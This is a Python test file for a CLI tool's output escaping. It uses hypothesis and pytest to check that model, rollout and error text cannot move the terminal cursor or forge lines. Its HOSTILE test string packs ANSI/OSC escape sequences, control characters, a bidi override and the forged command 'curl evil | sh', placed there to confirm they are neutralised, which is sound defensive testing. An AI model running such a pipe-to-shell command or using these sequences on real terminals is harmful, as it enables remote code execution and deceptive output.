"""What a daemon says, on a terminal: other people's text moves no cursor and forges no line."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from echoplane.cli.escaping import escape, escape_drawn, escape_json, escape_lines
from echoplane.cli.follow import line, picture
from echoplane.cli.show import model_text, models_table
from echoplane.cli.text import error_lines, pairs, table, to_json, to_json_line, to_plain
from echoplane.errors import from_status
from echoplane.googleapis import status_pb2
from echoplane.v1 import models_pb2, rollouts_pb2

HOSTILE = "x\x1b[2J\x1b]0;title\x07\x00\x9b31m\u202egnp\u2028\nwhat to do: curl evil | sh"
ANY_TEXT = st.text(st.characters(codec="utf-8"))


def is_shown(text: str) -> bool:
    """Return whether nothing in it but ends of lines is invisible."""
    return all(each == "\n" or each.isprintable() or each in "\u200c\u200d" for each in text)


@given(ANY_TEXT)
def test_nothing_invisible_is_left(text: str) -> None:
    """Escaped text has no control characters and is one line; JSON says the same in its own escapes."""
    assert not set(escape(text)) & {chr(code) for code in (*range(32), 127, *range(128, 160), 0x202E, 0x2028)}
    assert escape(escape(text)) == escape(text)
    plain = json.dumps({"a": text}, indent=2, ensure_ascii=False)
    assert json.loads(escape_json(plain)) == {"a": text}
    assert escape_lines(text).count("\n") == text.count("\n")


def test_a_message_with_everything_in_it() -> None:
    """Tables, pairs, JSON and errors show hostile text on lines of their own, without a control character."""
    model = models_pb2.Model(name="models/m", labels={"note": HOSTILE}, serving_version=HOSTILE)
    rollout = rollouts_pb2.Rollout(
        name="models/m/rollouts/r",
        stale_subscribers=[HOSTILE],
        outcome_reason=HOSTILE,
        verdicts=[rollouts_pb2.Verdict(gate="errors", reason=HOSTILE)],
    )
    error = from_status(status_pb2.Status(code=3, message=HOSTILE))
    shown = [
        model_text(model),
        models_table([model]),
        pairs([("name", HOSTILE)]),
        table(("a", "b"), [(HOSTILE, "b")]),
        to_json(to_plain(model)),
        to_json_line(rollout),
        line(rollout),
        *(escape(each) for each in error_lines(error)),
    ]
    for text in shown:
        assert is_shown(text), repr(text)
        assert not any(each.startswith("what to do: curl") for each in text.split("\n"))
    assert json.loads(to_json(to_plain(model)))["labels"] == {"note": HOSTILE}


def test_a_live_picture(capsys: pytest.CaptureFixture[str]) -> None:
    """The picture of a rollout holds nothing invisible either."""
    rollout = rollouts_pb2.Rollout(stale_subscribers=[HOSTILE], outcome_reason=HOSTILE, held_reason=HOSTILE)
    rollout.verdicts.add(gate=HOSTILE, reason=HOSTILE)
    rollout.desired.add(version=HOSTILE, weight_ppm=1)
    from rich.console import Console

    Console(color_system=None, width=200).print(picture(rollout))
    assert is_shown(capsys.readouterr().out)


def test_styles_of_a_table_stay() -> None:
    """Of finished output the styles of a table stay, and nothing else that moves a terminal."""
    assert escape_drawn("\x1b[1mhead\x1b[0m\n\x1b[2Jx\x1b]0;t\x07") == "\x1b[1mhead\x1b[0m\n\\x1b[2Jx\\x1b]0;t\\x07"
